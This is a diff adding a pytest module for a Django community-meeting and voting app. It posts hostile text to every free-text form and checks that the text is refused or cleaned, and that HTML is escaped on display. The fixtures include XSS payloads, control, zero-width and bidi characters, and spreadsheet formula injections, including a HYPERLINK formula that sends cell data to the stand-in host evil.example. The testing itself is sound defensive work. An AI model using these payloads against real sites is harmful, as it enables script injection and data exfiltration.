@@ -1,0 +1,483 @@
+"""Every form that takes free text or files, posted what people (and attackers) really send.
+
+Each form has one row in FORMS: its page, the persona who may use it, a valid post, the free-text
+field the cases write into and where that text is stored. Each text case is posted through the
+test client and must answer a form error (200 or 400, never 500) with nothing stored and nothing
+recorded in the audit log, or succeed (a redirect) having stored a clean text: no control,
+zero-width or bidi characters (common/text.py's CleanTextField); HTML and formulas are kept as
+typed, and HTML is shown escaped on the page that shows the text. The file cases post images of
+extreme dimensions, empty files, non-images and polyglots to every photo field: refused with a
+translated error, or re-encoded into a clean JPEG served with nosniff. Number fields take
+full-width digits as the digits they are.
+
+The world of world.py is built once per module; each test runs in a savepoint rolled back after
+it, so no case sees another's.
+"""
+
+from collections.abc import Callable
+from dataclasses import dataclass
+from datetime import timedelta
+
+import pytest
+from django.db import transaction
+from django.forms import BaseForm, BaseFormSet
+from django.test import override_settings
+from django.urls import reverse
+from django.utils import timezone
+from django.utils.html import escape
+
+from roundtable.audit.models import Event
+from roundtable.common.idempotency import new_key
+from roundtable.common.text import clean_text
+from roundtable.meetings.models import AgendaItem, Meeting
+from roundtable.people.models import ConstituencyGroup, User
+from roundtable.suggestions.models import ReferenceCounter, Step, Suggestion
+from roundtable.votes.models import Conflict, Option, Poll
+from roundtable.workdays.models import CalendarDay
+
+from . import world as world_module
+
+MARK = "标记Q7"  # in every accepted text, to find the row it was stored in
+ZERO_WIDTH = "\u200b\u200c\u200d\ufeff\u2060"
+
+
+# ------------------------------------------------------------------------------- the forms
+
+
+@dataclass
+class Form:
+    """One form: where it is posted, by whom, and where the text written into `field` is kept."""
+
+    url: Callable  # world → the page's URL
+    persona: str  # who may use it (world.py's personas)
+    data: Callable  # world → a valid post, `field` left out
+    field: str  # the free-text field the cases write into (with its prefix)
+    stored: tuple  # (model, attribute) the text is kept in
+    max_length: int
+    required: bool = True
+    shown: Callable | None = None  # (world, stored row) → (persona, URL) of a page showing it
+    # A refusal redirects with the error as a message (a one-field form on a list page).
+    refuses_by_message: bool = False
+
+
+def _when(moment):
+    return timezone.localtime(moment).strftime("%Y-%m-%dT%H:%M")
+
+
+def _poll_data(w, **fields):
+    now = timezone.now()
+    return {
+        "question": "是否同意在北门空地建电动车棚？", "description": "", "compound": w.compound.pk,
+        "building": "", "method": "single", "max_choices": "",
+        "opens_at": _when(now + timedelta(days=1)), "closes_at": _when(now + timedelta(days=15)),
+        "electorate_kind": "residents_homes", "meeting_id": "", "visibility": "nothing",
+        "rule": "none", "non_voter_policy": "not_counted", "policy_clause": "", "quorum": "",
+        "threshold": "", "options-TOTAL_FORMS": "2", "options-INITIAL_FORMS": "0",
+        "options-MIN_NUM_FORMS": "0", "options-MAX_NUM_FORMS": "20",
+        "options-0-title": "甲方案", "options-1-title": "乙方案", **fields,
+    }  # fmt: skip
+
+
+def _meeting_data(w):
+    day = timezone.localdate() + timedelta(days=9)
+    return {"community": "lf", "kind": "round_table", "title": "十二月星空圆桌",
+            "day": day.isoformat(), "starts": "19:00", "ends": "21:00", "place": "居民议事厅",
+            "check_in_opens_before": "60"}  # fmt: skip
+
+
+def _suggestion_data(w):
+    return {"place": str(w.home.pk), "idempotency_key": new_key()}
+
+
+def _slip_data(w):
+    return {"where": "J5 1栋 301", "channel": "grid_box", "idempotency_key": new_key()}
+
+
+def _resident_sees(w, row):
+    return "resident", reverse("suggestions:detail", args=[row.suggestion.reference])
+
+
+def _public_meeting(w, row):
+    meeting = row if isinstance(row, Meeting) else row.meeting
+    return "anonymous", reverse("meetings:detail", args=["lf", meeting.pk])
+
+
+def _staff(name):
+    return lambda w, row: ("community_worker", reverse(name, args=[row.pk]))
+
+
+def _triage(action, field, **data):
+    return Form(
+        lambda w: reverse("suggestions:triage_item", args=[w.submitted.reference]),
+        "community_worker",
+        lambda w: {"action": action, **{f"{action}-{k}": v for k, v in data.items()}},
+        f"{action}-{field}", (Step, "note"), 2000, shown=_resident_sees,
+    )  # fmt: skip
+
+
+FORMS: dict[str, Form] = {
+    "suggestion": Form(
+        lambda w: reverse("suggestions:new"),
+        "resident",
+        _suggestion_data,
+        "text",
+        (Suggestion, "text"),
+        2000,
+        shown=lambda w, row: ("resident", reverse("suggestions:detail", args=[row.reference])),
+    ),
+    "rating": Form(
+        lambda w: reverse("suggestions:rate", args=[w.answered.reference]),
+        "resident",
+        lambda w: {"rating": "satisfied"},
+        "comment",
+        (Suggestion, "rating_comment"),
+        1000,
+        required=False,
+        shown=lambda w, row: ("resident", reverse("suggestions:detail", args=[row.reference])),
+    ),
+    "triage_reject": _triage("reject", "reason"),
+    "triage_answer": _triage("answer", "text"),
+    "triage_dispatch_note": Form(
+        lambda w: reverse("suggestions:triage_item", args=[w.submitted.reference]),
+        "community_worker",
+        lambda w: {"action": "dispatch", "dispatch-owner": w.company.pk},
+        "dispatch-note",
+        (Step, "note"),
+        2000,
+        required=False,
+    ),
+    "handling_return": Form(
+        lambda w: reverse("suggestions:handle", args=[w.dispatched.reference]),
+        "property_staff",
+        lambda w: {"action": "return"},
+        "return-reason",
+        (Step, "note"),
+        2000,
+    ),
+    "slip": Form(
+        lambda w: reverse("suggestions:slip"),
+        "grid_worker",
+        _slip_data,
+        "text",
+        (Suggestion, "text"),
+        2000,
+        shown=lambda w, row: (
+            "community_worker",
+            reverse("suggestions:triage_item", args=[row.reference]),
+        ),
+    ),  # fmt: skip
+    "meeting_title": Form(
+        lambda w: reverse("meetings:new"),
+        "community_worker",
+        _meeting_data,
+        "title",
+        (Meeting, "title"),
+        200,
+        shown=_public_meeting,
+    ),
+    "meeting_description": Form(
+        lambda w: reverse("meetings:new"),
+        "community_worker",
+        _meeting_data,
+        "description",
+        (Meeting, "description"),
+        2000,
+        required=False,
+        shown=_public_meeting,
+    ),
+    "meeting_place": Form(
+        lambda w: reverse("meetings:new"),
+        "community_worker",
+        _meeting_data,
+        "place",
+        (Meeting, "place"),
+        200,
+        shown=_public_meeting,  # required without station or link
+    ),
+    "meeting_edit_title": Form(
+        lambda w: reverse("meetings:edit", args=[w.meeting.pk]),
+        "community_worker",
+        _meeting_data,
+        "title",
+        (Meeting, "title"),
+        200,
+        shown=_public_meeting,
+    ),
+    "meeting_cancel": Form(
+        lambda w: reverse("meetings:cancel", args=[w.meeting.pk]),
+        "community_worker",
+        lambda w: {},
+        "reason",
+        (Meeting, "cancel_reason"),
+        500,
+        shown=_public_meeting,
+    ),
+    "agenda_item": Form(
+        lambda w: reverse("meetings:agenda", args=[w.meeting.pk]),
+        "community_worker",
+        lambda w: {"action": "free", "free-minutes_planned": "15"},
+        "free-title",
+        (AgendaItem, "title"),
+        200,
+        shown=lambda w, row: (
+            "community_worker",
+            reverse("meetings:agenda", args=[row.meeting_id]),
+        ),
+    ),  # fmt: skip
+    "agenda_note": Form(
+        lambda w: reverse("meetings:agenda", args=[w.meeting.pk]),
+        "community_worker",
+        lambda w: {"action": "free", "free-title": "议题", "free-minutes_planned": "15"},
+        "free-note",
+        (AgendaItem, "note"),
+        2000,
+        required=False,
+        shown=lambda w, row: (
+            "community_worker",
+            reverse("meetings:agenda", args=[row.meeting_id]),
+        ),
+    ),  # fmt: skip
+    "poll_question": Form(
+        lambda w: reverse("votes:new"),
+        "community_worker",
+        _poll_data,
+        "question",
+        (Poll, "question"),
+        200,
+        shown=_staff("votes:detail"),
+    ),
+    "poll_description": Form(
+        lambda w: reverse("votes:new"),
+        "community_worker",
+        _poll_data,
+        "description",
+        (Poll, "description"),
+        5000,
+        required=False,
+    ),
+    "poll_option": Form(
+        lambda w: reverse("votes:new"),
+        "community_worker",
+        lambda w: {k: v for k, v in _poll_data(w).items() if k != "options-1-title"},
+        "options-1-title",
+        (Option, "title"),
+        200,
+        required=False,
+        shown=lambda w, row: ("community_worker", reverse("votes:detail", args=[row.poll_id])),
+    ),  # fmt: skip
+    "poll_option_description": Form(
+        lambda w: reverse("votes:new"),
+        "community_worker",
+        _poll_data,
+        "options-0-description",
+        (Option, "description"),
+        2000,
+        required=False,
+        shown=lambda w, row: ("community_worker", reverse("votes:detail", args=[row.poll_id])),
+    ),
+    "poll_close": Form(
+        lambda w: reverse("votes:close", args=[w.poll.pk]),
+        "community_worker",
+        lambda w: {},
+        "reason",
+        (Poll, "close_reason"),
+        2000,
+        required=False,
+        refuses_by_message=True,
+        shown=lambda w, row: ("anonymous", reverse("votes:results", args=["lf", row.pk])),
+    ),
+    "conflict_resolution": Form(
+        lambda w: reverse("votes:resolve", args=[w.poll.pk, w.conflict.pk]),
+        "community_worker",
+        lambda w: {},
+        "resolution",
+        (Conflict, "resolution"),
+        2000,
+        refuses_by_message=True,
+        shown=lambda w, row: ("community_worker", reverse("votes:conflicts", args=[row.poll_id])),
+    ),  # fmt: skip
+    "group_name": Form(
+        lambda w: reverse("people:groups") + "?community=lf",
+        "community_worker",
+        lambda w: {"community": "lf"},
+        "name",
+        (ConstituencyGroup, "name"),
+        50,
+        shown=lambda w, row: ("community_worker", reverse("people:groups")),
+    ),
+    "group_rename": Form(
+        lambda w: reverse("people:group_rename", args=[w.group.pk]),
+        "community_worker",
+        lambda w: {},
+        "name",
+        (ConstituencyGroup, "name"),
+        50,
+        shown=lambda w, row: ("community_worker", reverse("people:group", args=[row.pk])),
+    ),
+    "role_grant_name": Form(
+        lambda w: reverse("people:roles") + "?community=lf",
+        "community_worker",
+        lambda w: {
+            "community": "lf",
+            "phone": "13655550001",
+            "role": "volunteer",
+            "scope": f"community:{w.community.pk}",
+        },
+        "name",
+        (User, "name"),
+        50,
+        shown=lambda w, row: ("community_worker", reverse("people:roles")),
+    ),  # fmt: skip
+    "holiday_name": Form(
+        lambda w: reverse("workdays:calendar"),
+        "community_worker",
+        lambda w: {"date": "2026-10-09", "kind": "holiday"},
+        "name",
+        (CalendarDay, "name"),
+        30,
+        required=False,
+        shown=lambda w, row: ("community_worker", reverse("workdays:calendar")),
+    ),
+}
+
+# The text cases: name → (what is posted, "refused" or "stored", what must be stored).
+HTML = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+        '<a href="javascript:alert(1)">点我</a>', "javascript:alert(1)"]  # fmt: skip
+FORMULAS = ['=HYPERLINK("http://evil.example/?a="&A1,"点我")', "+1+1", "-1+1", "@SUM(1)"]
+TEXTS = {
+    "control": f"楼道\x00灯\x0b坏\x1b了{MARK}",
+    "zero_width": f"楼\u200b道\u200c灯\u200d坏\ufeff了\u2060{MARK}",
+    "bidi": f"楼道\u202e灯坏了\u202c{MARK}",
+    **{f"html_{i}": f"{text}{MARK}" for i, text in enumerate(HTML)},
+    **{f"formula_{i}": f"{text}{MARK}" for i, text in enumerate(FORMULAS)},
+}
+
+
+# ------------------------------------------------------------------------------- the world
+
+
+@pytest.fixture(scope="module")
+def world(django_db_setup, django_db_blocker, tmp_path_factory):
+    media = tmp_path_factory.mktemp("media")
+    with django_db_blocker.unblock(), override_settings(MEDIA_ROOT=media):
+        with transaction.atomic():
+            built = world_module.build(media)
+            # world.py's suggestions have references of their own (LF-2026-000001…), not counted.
+            ReferenceCounter.objects.create(
+                community=built.community, year=timezone.localdate().year, last=1000
+            )
+            yield built
+            transaction.set_rollback(True)
+
+
+@pytest.fixture
+def ask(world, db, client, settings):
+    """Post (or get) as a persona; return the response."""
+    settings.MEDIA_ROOT = world.media
+
+    def ask(persona, url, data=None):
+        client.logout()
+        if world.people.get(persona) is not None:
+            client.force_login(world.people[persona])
+        return client.post(url, data) if data is not None else client.get(url)
+
+    return ask
+
+
+def _counts(form):
+    model = form.stored[0]
+    return Event.objects.count(), model.objects.count()
+
+
+def _stored(form):
+    model, attribute = form.stored
+    return list(model.objects.filter(**{f"{attribute}__contains": MARK}))
+
+
+def _post(ask, w, form, value, files=None):
+    data = {**form.data(w), form.field: value, **(files or {})}
+    return ask(form.persona, form.url(w), data)
+
+
+def _refused(form, response):
+    """The response refuses the post, naming what is wrong."""
+    if form.refuses_by_message:
+        assert response.status_code == 302, response.status_code
+        errors = [m for m in response.wsgi_request._messages if m.level_tag == "error"]
+    else:
+        assert response.status_code in (200, 400), response.status_code
+        errors = _errors(response)
+    assert errors
+
+
+# ------------------------------------------------------------------------------- the tests
+
+
+@pytest.mark.parametrize("name", FORMS)
+def test_a_valid_post_succeeds(ask, world, name):
+    """The row's valid post works: the cases below test the form, not a broken row."""
+    form = FORMS[name]
+    response = _post(ask, world, form, f"一段正常的文字{MARK}")
+    assert response.status_code == 302, (response.status_code, _errors(response))
+    assert [getattr(row, form.stored[1]) for row in _stored(form)] == [f"一段正常的文字{MARK}"]
+
+
+@pytest.mark.parametrize("name", FORMS)
+def test_oversize_text_is_refused_and_nothing_is_stored(ask, world, name):
+    form = FORMS[name]
+    before = _counts(form)
+    _refused(form, _post(ask, world, form, MARK + "长" * 100_000))
+    assert _counts(form) == before and not _stored(form)
+
+
+@pytest.mark.parametrize("name", FORMS)
+def test_a_text_only_of_invisible_characters_is_empty(ask, world, name):
+    """Refused as empty where the text is required; stored as empty where it is optional."""
+    form = FORMS[name]
+    before = _counts(form)
+    response = _post(ask, world, form, ZERO_WIDTH * 3 + "\x00 \u202e")
+    if form.required:
+        _refused(form, response)
+        assert _counts(form) == before
+    else:
+        assert response.status_code == 302, _errors(response)
+        model, attribute = form.stored
+        assert not model.objects.filter(**{f"{attribute}__regex": "[\u200b-\u200d\ufeff\u2060]"})
+
+
+@pytest.mark.parametrize("case", TEXTS)
+@pytest.mark.parametrize("name", FORMS)
+def test_odd_text_is_stored_clean(ask, world, name, case):
+    form = FORMS[name]
+    value = TEXTS[case]
+    response = _post(ask, world, form, value)
+    assert response.status_code == 302, _errors(response)
+    stored = [getattr(row, form.stored[1]) for row in _stored(form)]
+    assert stored == [clean_text(value)]
+    assert clean_text(value) == value or case in ("control", "zero_width", "bidi")
+    if case.startswith("html") and form.shown:
+        # Shown as text: escaped, never as a tag or a link.
+        (row,) = _stored(form)
+        persona, url = form.shown(world, row)
+        page = ask(persona, url)
+        assert page.status_code == 200
+        html = page.content.decode()
+        assert escape(value) in html
+        assert "<script>alert" not in html and "<img src=x" not in html
+        assert 'href="javascript:' not in html
+
+
+def _errors(response):
+    """The errors of the forms (and formsets) the page was rendered with."""
+    found = []
+    for context in response.context or []:
+        for value in context.flatten().values():
+            values = value.values() if isinstance(value, dict) else [value]
+            for candidate in values:
+                if isinstance(candidate, BaseForm | BaseFormSet) and candidate.is_bound:
+                    errors = candidate.errors
+                    if isinstance(candidate, BaseFormSet):
+                        errors = [e for e in errors if e] + list(candidate.non_form_errors())
+                    if errors:
+                        found.append(errors)
+    return found
